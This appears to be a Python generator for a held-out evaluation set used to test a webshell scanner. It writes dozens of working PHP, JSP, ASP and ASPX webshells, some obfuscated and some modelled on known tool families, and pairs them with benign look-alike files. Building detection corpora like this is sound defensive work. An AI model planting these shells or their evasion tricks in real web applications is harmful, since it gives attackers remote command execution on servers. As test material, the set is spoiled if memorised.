#!/usr/bin/env python3
"""Writes the THIRD held-out evaluation set for the webshell scanner, now tuning data:
samples/generic_eval3_*, known_misses/eval3_* (still missed: documented gaps) and
benign/eval3_*.

History: committed (as heldout/, make_heldout.py) before the detector was run on it; first
measurement 30/61 = 49.2 % recall, 2/20 look-alikes flagged (the honest figure). One generic
tuning iteration followed (54/61 and 0/20 after: tuned figures), so it moved here.

Written on 2026-12-06 after the second set (make_eval2.py) had been used for one tuning
iteration, and committed on its own before the detector was run on it. The author knows the
detector's techniques, so the set avoids the exact shapes of the earlier sets: other input
sources (parameter names as payload, JSON bodies, cookies through unserialize...), other
callback sinks, other name-building tricks, and family layouts not used before (Behinder's ASP
XOR shell, AntSword's XXTEA shell, Godzilla's raw-body JSP...). No downloaded malware; keys and
names are made up.

Do not tune on this set. Once it is used to fix the detector it becomes tuning data (move it
like make_eval.py's and make_eval2.py's sets) and a new held-out set must be written.

    python3 make_eval3.py        # rewrites the files listed above (seed 20261207)
"""
import base64
import os
import random

SEED = 20261207
HERE = os.path.dirname(os.path.abspath(__file__))
# Shells of this set the scanner still misses after the tuning iteration (docs/webshell.md).
KNOWN_MISSES = set()  # all caught since set 4's tuning iteration (2026-12-06)


def b64(s):
    return base64.b64encode(s.encode()).decode()


def key16(rng):
    return "".join(rng.choice("0123456789abcdef") for _ in range(16))


def pname(rng):
    return rng.choice(["u", "sn", "oid", "cb", "t0", "nav", "qq", "img", "lid"])


# --- PHP: input source x sink x name obfuscation ----------------------------------------------

SOURCES = [
    "key($_GET)",                                            # the parameter NAME is the payload
    "json_decode(file_get_contents('php://input'))->{k}",
    "unserialize(base64_decode($_COOKIE['{k}']))['c']",
    "implode('', $_POST)",
    "getallheaders()['X-{K}']",
    "$_FILES['{k}']['name']",
    "array_pop($_COOKIE)",
    "current($_REQUEST)",
    "trim(stripslashes($_REQUEST['{k}']))",
    "$_SERVER['HTTP_REFERER']",
]

SINKS = [
    "nested_callback", "iterator_apply", "array_udiff", "register_tick", "header_callback",
    "autoload", "preg_callback_array", "pcntl_exec", "com_shell", "ffi", "invoke_reflection",
    "eval_heredoc", "include_filter", "array_intersect_ukey", "assert_concat", "static_method",
]


def name_expr(name, rng):
    forms = [
        lambda: '"' + "".join("\\%03o" % ord(c) for c in name) + '"',
        lambda: "sprintf('" + "%c" * len(name) + "', " + ", ".join(str(ord(c)) for c in name) + ")",
        lambda: "hex2bin('" + name.encode().hex() + "')",
        lambda: "strrev(base64_decode('" + b64(name[::-1]) + "'))",
        lambda: "str_rot13(strrev('" + name[::-1].translate(str.maketrans(
            "abcdefghijklmnopqrstuvwxyz", "nopqrstuvwxyzabcdefghijklm")) + "'))",
        lambda: "strtolower(implode(array_map('chr', [" + ", ".join(str(ord(c.upper()) if c.isalpha() else ord(c)) for c in name) + "])))",
        lambda: "ucwords('" + name + "')",
        lambda: "str_replace(['@', '!'], '', '" + "@".join(name[:3]) + "!" + name[3:] + "')",
        lambda: "$GLOBALS['fn_" + name[:2] + "']",
    ]
    return rng.choice(forms)()


def php_shell(rng, i):
    k = pname(rng)
    src = rng.choice(SOURCES).format(k=k, K=k.upper())
    sink = SINKS[i % len(SINKS)]
    v = rng.choice(["$in", "$c", "$arg", "$z", "$val"])
    pre = "%s = %s;\n" % (v, src)
    cmd_name = rng.choice(["system", "passthru", "shell_exec", "exec"])
    nm = name_expr(cmd_name, rng)
    if nm.startswith("$GLOBALS"):
        pre = "$GLOBALS['fn_%s'] = '%s';\n" % (cmd_name[:2], cmd_name) + pre
    code_nm = name_expr("assert", rng)
    if code_nm.startswith("$GLOBALS"):
        pre = "$GLOBALS['fn_as'] = 'assert';\n" + pre
    if sink == "nested_callback":
        body = "call_user_func_array('array_map', array(%s, array(%s)));\n" % (nm, v)
    elif sink == "iterator_apply":
        body = ("$it = new ArrayIterator(array(%s));\n"
                "iterator_apply($it, %s, array(%s));\n" % (v, nm, v))
    elif sink == "array_udiff":
        body = "array_udiff(array(%s), array(1), %s);\n" % (v, code_nm)
    elif sink == "register_tick":
        body = "declare(ticks=1);\nregister_tick_function(%s, %s);\n" % (nm, v)
    elif sink == "header_callback":
        body = "header_register_callback(function () use (%s) { %s(%s); });\n" % (v, cmd_name, v)
    elif sink == "autoload":
        body = ("spl_autoload_register(function ($cls) use (%s) { %s(%s); });\n"
                "class_exists('Missing_%d');\n" % (v, cmd_name, v, i))
    elif sink == "preg_callback_array":
        body = ("preg_replace_callback_array(array('/.+/' => function ($m) { return %s($m[0]); }), %s);\n"
                % (cmd_name, v))
    elif sink == "pcntl_exec":
        body = "pcntl_exec('/bin/sh', array('-c', %s));\n" % v
    elif sink == "com_shell":
        body = "$w = new COM('WScript.Shell');\necho $w->exec('cmd /c ' . %s)->StdOut->ReadAll();\n" % v
    elif sink == "ffi":
        body = "$ffi = FFI::cdef('int system(const char *command);');\n$ffi->system(%s);\n" % v
    elif sink == "invoke_reflection":
        body = "echo (new ReflectionFunction(%s))->invoke(%s);\n" % (nm, v)
    elif sink == "eval_heredoc":
        body = "$code = <<<EOT\n{%s}\nEOT;\neval($code);\n" % v
    elif sink == "include_filter":
        body = "include 'php://filter/read=convert.base64-decode/resource=data://text/plain;base64,' . %s;\n" % v
    elif sink == "array_intersect_ukey":
        body = "array_intersect_ukey(array(%s => 1), array(1 => 1), %s);\n" % (v, code_nm)
    elif sink == "assert_concat":
        body = "$f = %s;\n$f('/*' . '*/' . %s);\n" % (code_nm, v)
    else:  # static_method
        body = ("class Tool%d { static function run($x) { return %s($x); } }\n"
                "echo call_user_func('Tool%d::run', %s);\n" % (i, cmd_name, i, v))
    head = rng.choice(["", "/**\n * @package Theme\n */\n", "error_reporting(0);\n",
                       "namespace App\\Cache;\n", "if (PHP_SAPI === 'cli') exit;\n"])
    text = "<?php\n" + head + pre + body
    if rng.random() < 0.2 and not head.startswith("namespace"):
        text = "<!DOCTYPE html><title>Maintenance</title>\n" + text
    return text


# --- family-modelled shells --------------------------------------------------------------------

def families(rng):
    out = {}
    p = pname(rng)
    out["chopper_php_numeric_key.php"] = "<?php @eval($_POST[%d]);?>\n" % rng.randrange(1, 99)
    out["chopper_php_bareword.php"] = "<?php $a = $_GET[%s]; @eval($a); ?>\n" % p
    out["chopper_php_request_cookie.php"] = (
        "<?php\nif (isset($_COOKIE['%s'])) {\n    $s = $_COOKIE['%s'];\n    @assert($s);\n}\n" % (p, p))
    out["chopper_aspx_script_block.aspx"] = (
        "<%@ Page Language=\"Jscript\" %>\n<script runat=\"server\" language=\"JScript\">\n"
        "function Page_Load() { eval(Request.Item[\"" + pname(rng) + "\"], \"unsafe\"); }\n</script>\n")
    out["chopper_asp_jscript.asp"] = (
        "<%@ Language=\"JScript\" %>\n<% eval(Request(\"" + pname(rng) + "\") + \"\"); %>\n")
    k = key16(rng)
    out["behinder_asp_xor.asp"] = """<%
Response.CharSet = "UTF-8"
k="{k}"
Session("k")=k
size=Request.TotalBytes
content=Request.BinaryRead(size)
For i=1 To size
result=result&Chr(ascb(midb(content,i,1)) Xor Asc(Mid(k,(i and 15)+1,1)))
Next
execute(result)
%>
""".format(k=k)
    out["behinder_php_aes_magic.php"] = """<?php
@error_reporting(0);
function Decrypt($data)
{
    $magicNum=hexdec(substr(md5("%s"),0,2))%%16;
    $data=substr($data,0,strlen($data)-$magicNum);
    return openssl_decrypt(base64_decode($data), "AES-128-ECB", "%s", OPENSSL_RAW_DATA);
}
$post=Decrypt(file_get_contents("php://input"));
eval($post);
""" % (key16(rng), key16(rng))
    out["godzilla_php_eval_xor.php"] = "<?php\n@session_start();\neval($_POST[\"%s\"]);\n" % pname(rng)
    out["godzilla_jsp_aes_raw.jsp"] = """<%! String xc="{k}"; class X extends ClassLoader{{public X(ClassLoader z){{super(z);}}public Class Q(byte[] cb){{return super.defineClass(cb, 0, cb.length);}} }}
public byte[] x(byte[] s,boolean m){{ try{{javax.crypto.Cipher c=javax.crypto.Cipher.getInstance("AES");c.init(m?1:2,new javax.crypto.spec.SecretKeySpec(xc.getBytes(),"AES"));return c.doFinal(s); }}catch (Exception e){{return null; }}}}
%><%try{{byte[] data=new byte[Integer.parseInt(request.getHeader("Content-Length"))];java.io.InputStream inputStream= request.getInputStream();int _num=0;while ((_num+=inputStream.read(data,_num,data.length))<data.length);data=x(data, false);if (session.getAttribute("payload")==null){{session.setAttribute("payload",new X(this.getClass().getClassLoader()).Q(data));}}else{{request.setAttribute("parameters", data);Object f=((Class)session.getAttribute("payload")).newInstance();java.io.ByteArrayOutputStream arrOut=new java.io.ByteArrayOutputStream();f.equals(arrOut);f.equals(pageContext);f.toString();response.getOutputStream().write(x(arrOut.toByteArray(), true));}} }}catch (Exception e){{}}
%>
""".format(k=key16(rng))
    out["godzilla_asp_xor_base64.asp"] = """<%
Set bypassDictionary = Server.CreateObject("Scripting.Dictionary")
Function Base64Decode(ByVal vCode)
    Dim oXML, oNode
    Set oXML = CreateObject("Msxml2.DOMDocument.3.0")
    Set oNode = oXML.CreateElement("base64")
    oNode.dataType = "bin.base64"
    oNode.text = vCode
    Base64Decode = oNode.nodeTypedValue
End Function
Function decryption(content, isBin)
    dim size, i, result, keySize
    keySize = len(key)
    Set BinaryStream = CreateObject("ADODB.Stream")
    BinaryStream.CharSet = "iso-8859-1"
    BinaryStream.Type = 2
    BinaryStream.Open
    if IsArray(content) then
        size = UBound(content) + 1
        For i = 1 To size
            BinaryStream.WriteText chrw(ascb(midb(content, i, 1)) Xor Asc(Mid(key, (i mod keySize) + 1, 1)))
        Next
    end if
    BinaryStream.Position = 0
    decryption = BinaryStream.ReadText
End Function
key = "{k}"
content = request.Form("{p}")
if not IsEmpty(content) then
    if IsEmpty(Session("payload")) then
        content = decryption(Base64Decode(content), false)
        Session("payload") = content
        response.End
    else
        content = decryption(Base64Decode(content), true)
        bypassDictionary.Add "payload", Session("payload")
        Execute(bypassDictionary("payload"))
    end if
end if
%>
""".format(k=key16(rng), p=pname(rng))
    ap = rng.choice(["ant", "as"])
    out["antsword_php_xxtea.php"] = """<?php
function long2str($v, $w) {
    $len = count($v);
    $s = array();
    for ($i = 0; $i < $len; $i++) { $s[$i] = pack("V", $v[$i]); }
    return join('', $s);
}
function xxtea_decrypt($str, $key) {
    if ($str == "") { return ""; }
    $v = unpack("V*", $str . str_repeat("\\0", (4 - strlen($str) %% 4) & 3));
    $k = unpack("V*", $key);
    /* rounds omitted in this model: the shape is what matters */
    return long2str(array_values($v), true);
}
$key = "%s";
$data = xxtea_decrypt(base64_decode($_POST['%s']), $key);
eval($data);
""" % (key16(rng), ap)
    out["antsword_aspx.aspx"] = (
        "<%%@ Page Language=\"Jscript\"%%><%%var c=Request.Item[\"%s\"];if(c!=null){eval(c,\"unsafe\");}%%>\n" % ap)
    out["antsword_php_assert_request.php"] = "<?php\nassert(@$_REQUEST['%s']);\n" % ap
    return out


JSP = {
    "jsp_el_processor.jsp": ('<%% javax.el.ELProcessor ep = new javax.el.ELProcessor(); '
                             'out.print(ep.eval(request.getParameter("%s"))); %%>\n'),
    "jsp_groovy.jsp": ('<%% groovy.lang.GroovyShell sh = new groovy.lang.GroovyShell(); '
                       'out.print(sh.evaluate(request.getParameter("%s"))); %%>\n'),
    "jsp_b64_exec_var.jsp": (
        '<%% String enc = request.getParameter("%s"); if (enc != null) { String cmd = new String('
        'java.util.Base64.getDecoder().decode(enc)); java.io.InputStream in = Runtime.getRuntime()'
        '.exec(new String[]{"/bin/bash", "-c", cmd}).getInputStream(); int a; while ((a = in.read()) '
        '!= -1) out.print((char) a); } %%>\n'),
    "jsp_unsafe_anon.jsp": (
        '<%%@ page import="java.lang.reflect.Field" %%><%% Field f = sun.misc.Unsafe.class.getDeclaredField('
        '"theUnsafe"); f.setAccessible(true); sun.misc.Unsafe u = (sun.misc.Unsafe) f.get(null); '
        'byte[] b = java.util.Base64.getDecoder().decode(request.getParameter("%s")); '
        'u.defineAnonymousClass(String.class, b, null).newInstance(); %%>\n'),
    "jsp_processimpl.jsp": (
        '<%% Class<?> c = Class.forName("java.lang.ProcessImpl"); java.lang.reflect.Method m = '
        'c.getDeclaredMethod("start", String[].class, java.util.Map.class, String.class, '
        'java.lang.ProcessBuilder.Redirect[].class, boolean.class); m.setAccessible(true); '
        'Process p = (Process) m.invoke(null, new String[]{"sh", "-c", request.getParameter("%s")}, '
        'null, null, null, false); out.print(new String(p.getInputStream().readAllBytes())); %%>\n'),
    "jsp_script_reflect.jsp": (
        '<%% Object mgr = Class.forName("javax.script.ScriptEngineManager").newInstance(); '
        'Object eng = mgr.getClass().getMethod("getEngineByName", String.class).invoke(mgr, "js"); '
        'eng.getClass().getMethod("eval", String.class).invoke(eng, request.getParameter("%s")); %%>\n'),
    "jsp_pb_command.jsp": (
        '<%% ProcessBuilder pb = new ProcessBuilder(); pb.command("cmd.exe", "/c", '
        'request.getParameter("%s")); pb.redirectErrorStream(true); '
        'out.print(new String(pb.start().getInputStream().readAllBytes())); %%>\n'),
}

ASP = {
    "asp_cookie_executeglobal.asp": (
        '<%%\nFunction D(s)\n  D = StrReverse(s)\nEnd Function\nExecuteGlobal D(Request.Cookies("%s"))\n%%>\n'),
    "asp_shell_application.asp": (
        '<%%\nSet sa = Server.CreateObject("Shell.Application")\n'
        'sa.ShellExecute "cmd.exe", "/c " & Request.QueryString("%s") & " > c:\\\\inetpub\\\\o.txt", "", "open", 0\n%%>\n'),
    "asp_eval_var_chain.asp": (
        '<%%\nDim a, b\na = Request.Form("%s")\nb = a\nEval b\n%%>\n'),
    "aspx_process_start_pair.aspx": (
        '<%%@ Page Language="C#" %%><%% System.Diagnostics.Process.Start(Request.QueryString["%s"], '
        'Request.QueryString["a"]); %%>\n'),
    "aspx_binaryread_load.aspx": (
        '<%%@ Page Language="C#" %%>\n<script runat="server">\nprotected void Page_Load(object s, '
        'EventArgs e) {\n  byte[] b = Request.BinaryRead(Request.ContentLength);\n'
        '  System.Reflection.Assembly.Load(b).CreateInstance("%s").Equals(Context);\n}\n</script>\n'),
    "asmx_webmethod.asmx": (
        '<%%@ WebService Language="C#" Class="Svc" %%>\nusing System.Web.Services;\n'
        'public class Svc : WebService {\n  [WebMethod] public string Run(string %s) {\n'
        '    var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("cmd.exe", '
        '"/c " + %s) { RedirectStandardOutput = true, UseShellExecute = false });\n'
        '    return p.StandardOutput.ReadToEnd();\n  }\n}\n'),
    "aspx_vb_eval.aspx": (
        '<%%@ Page Language="VB" %%><%% Dim o As Object = Microsoft.VisualBasic.Interaction.CreateObject('
        '"WScript.Shell") : Response.Write(o.Exec("cmd /c " & Request("%s")).StdOut.ReadAll()) %%>\n'),
}


BENIGN = {
    "php_route_table.php": """<?php
// Front controller: routes map to controller methods defined in code.
$routes = array('GET /news' => array('NewsController', 'index'), 'GET /news/show' => array('NewsController', 'show'));
$key = $_SERVER['REQUEST_METHOD'] . ' ' . parse_url($_SERVER['REQUEST_URI'], PHP_URL_PATH);
if (!isset($routes[$key])) { http_response_code(404); exit; }
list($class, $method) = $routes[$key];
echo call_user_func_array(array(new $class(), $method), array($_GET));
""",
    "php_filters.php": """<?php
// Filter API of a CMS: apply_filters runs callbacks plugins registered.
$GLOBALS['filters'] = array();
function add_filter($tag, $cb) { $GLOBALS['filters'][$tag][] = $cb; }
function apply_filters($tag, $value) {
    foreach ($GLOBALS['filters'][$tag] ?? array() as $cb) { $value = call_user_func($cb, $value); }
    return $value;
}
add_filter('the_title', 'esc_html');
echo apply_filters('the_title', $_GET['title'] ?? '');
""",
    "php_image_resize.php": """<?php
// Thumbnail generation with ImageMagick; the path is ours, escaped anyway.
$src = __DIR__ . '/uploads/' . basename($_GET['img'] ?? 'logo.png');
$dst = __DIR__ . '/thumbs/' . md5($src) . '.png';
exec('convert ' . escapeshellarg($src) . ' -resize 120x120 ' . escapeshellarg($dst), $out, $rc);
readfile($dst);
""",
    "php_git_status.php": """<?php
// Admin panel: deployment status (fixed command, no shell).
$p = proc_open(array('git', 'rev-parse', 'HEAD'), array(1 => array('pipe', 'w')), $pipes, __DIR__);
echo htmlspecialchars(stream_get_contents($pipes[1]));
proc_close($p);
""",
    "php_highlight_search.php": """<?php
// Highlights search words in a text.
$q = preg_quote($_GET['q'] ?? '', '/');
echo preg_replace_callback('/(' . $q . ')/i', function ($m) { return '<mark>' . htmlspecialchars($m[1]) . '</mark>'; }, htmlspecialchars($text));
""",
    "php_ids.php": """<?php
$ids = array_filter(array_map('intval', (array) ($_POST['ids'] ?? array())));
usort($ids, function ($a, $b) { return $a <=> $b; });
echo implode(',', $ids);
""",
    "php_paging.php": """<?php
$page = filter_input(INPUT_GET, 'page', FILTER_VALIDATE_INT) ?: 1;
$qs = htmlspecialchars($_SERVER['QUERY_STRING'] ?? '');
printf('<a href="?%s&page=%d">next</a>', $qs, $page + 1);
""",
    "php_proxy_log.php": """<?php
$ip = getenv('HTTP_X_FORWARDED_FOR') ?: $_SERVER['REMOTE_ADDR'];
error_log(sprintf('[%s] %s %s', date('c'), $ip, $_SERVER['REQUEST_URI']));
""",
    "php_jwt.php": """<?php
// Reads the claims of a JWT (signature checked elsewhere).
list($h, $p, $s) = explode('.', $_COOKIE['token'] ?? '..');
$claims = json_decode(base64_decode(strtr($p, '-_', '+/')), true);
echo htmlspecialchars($claims['sub'] ?? 'guest');
""",
    "php_cache_blob.php": """<?php
$blob = @file_get_contents(__DIR__ . '/cache/nav.bin');
$nav = $blob ? unserialize(gzinflate($blob), array('allowed_classes' => false)) : array();
foreach ($nav as $n) echo '<li>' . htmlspecialchars($n) . '</li>';
""",
    "php_annotations.php": """<?php
// Collects @route annotations from controller methods.
$r = new ReflectionClass('NewsController');
foreach ($r->getMethods(ReflectionMethod::IS_PUBLIC) as $m) {
    if (preg_match('/@route\\s+(\\S+)/', (string) $m->getDocComment(), $mm)) $routes[$mm[1]] = $m->getName();
}
""",
    "php_assertions.php": """<?php
function set_price($p) {
    assert(is_numeric($p) && $p >= 0, 'price must be a non-negative number');
    return round($p, 2);
}
echo set_price((float) ($_POST['price'] ?? 0));
""",
    "php_static_callbacks.php": """<?php
class Format { static function money($v) { return number_format($v, 2); } }
$cols = array('price' => 'Format::money', 'name' => 'htmlspecialchars');
foreach ($row as $c => $v) echo call_user_func($cols[$c] ?? 'strval', $v);
""",
    "php_tick_profiler.php": """<?php
// Development profiler: counts ticks (fixed callback).
declare(ticks=100);
$ticks = 0;
register_tick_function(function () use (&$ticks) { $ticks++; });
""",
    "jsp_jdbc.jsp": """<%@ page import="java.sql.*" %>
<% Class.forName("org.postgresql.Driver");
   String id = request.getParameter("id");
   try (Connection c = DriverManager.getConnection(application.getInitParameter("db"));
        PreparedStatement ps = c.prepareStatement("SELECT title FROM news WHERE id = ?")) {
     ps.setInt(1, Integer.parseInt(id));
     ResultSet rs = ps.executeQuery();
     if (rs.next()) out.print(rs.getString(1).replace("<", "&lt;"));
   } %>
""",
    "jsp_version.jsp": """<% ProcessBuilder pb = new ProcessBuilder("git", "rev-parse", "--short", "HEAD");
   String lang = request.getParameter("lang");
   out.print(new String(pb.start().getInputStream().readAllBytes()) + (lang == null ? "" : "")); %>
""",
    "asp_server_execute.asp": """<%
' Shared header and footer; the page id only selects a title.
Server.Execute "inc/header.asp"
Response.Write "<h1>" & Server.HTMLEncode(Request.QueryString("title")) & "</h1>"
Server.Execute "inc/footer.asp"
%>
""",
    "asp_upload_check.asp": """<%
Dim ext
ext = LCase(Mid(Request.Form("name"), InStrRev(Request.Form("name"), ".") + 1))
If ext <> "jpg" And ext <> "png" Then Response.Write "not allowed" : Response.End
Set sh = Server.CreateObject("WScript.Shell")
sh.Run "cscript //nologo c:\\\\scripts\\\\scan.vbs", 0, True
%>
""",
    "aspx_report.aspx": """<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object s, EventArgs e) {
  int year;
  if (!int.TryParse(Request.QueryString["y"], out year)) year = DateTime.Now.Year;
  var psi = new System.Diagnostics.ProcessStartInfo("report.exe", "--year " + year);
  psi.UseShellExecute = false;
  System.Diagnostics.Process.Start(psi).WaitForExit();
}
</script>
""",
    "aspx_codedom_fixed.aspx": """<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object s, EventArgs e) {
  // Compiles the site's own rule file at start-up.
  var cp = new Microsoft.CSharp.CSharpCodeProvider();
  var src = System.IO.File.ReadAllText(Server.MapPath("~/App_Data/rules.cs"));
  var r = cp.CompileAssemblyFromSource(new System.CodeDom.Compiler.CompilerParameters(), src);
  Response.Write(Server.HtmlEncode(Request["id"] ?? ""));
}
</script>
""",
}


def main():
    rng = random.Random(SEED)
    dirs = {d: os.path.join(HERE, d) for d in ("samples", "known_misses", "benign")}
    for d in dirs.values():
        os.makedirs(d, exist_ok=True)
        for old in os.listdir(d):
            if old.startswith(("generic_eval3_", "eval3_")):
                os.remove(os.path.join(d, old))
    files = families(rng)
    for i in range(34):
        ext = "php" if i % 9 else rng.choice(["phtml", "php7", "inc"])
        files["php_%02d_%s.%s" % (i, SINKS[i % len(SINKS)], ext)] = php_shell(rng, i)
    for name, t in JSP.items():
        files[name] = t % pname(rng)
    for name, t in ASP.items():
        files[name] = t.replace("%s", pname(rng)).replace("%%", "%") if name.endswith("asmx") else t % pname(rng)
    for name, text in files.items():
        path = (os.path.join(dirs["known_misses"], "eval3_" + name) if name in KNOWN_MISSES
                else os.path.join(dirs["samples"], "generic_eval3_" + name))
        with open(path, "w", encoding="latin-1") as f:
            f.write(text)
    for name, text in BENIGN.items():
        with open(os.path.join(dirs["benign"], "eval3_" + name), "w") as f:
            f.write(text)
    print("wrote %d malicious (%d known misses) and %d benign files" % (
        len(files), len(KNOWN_MISSES), len(BENIGN)))


if __name__ == "__main__":
    main()
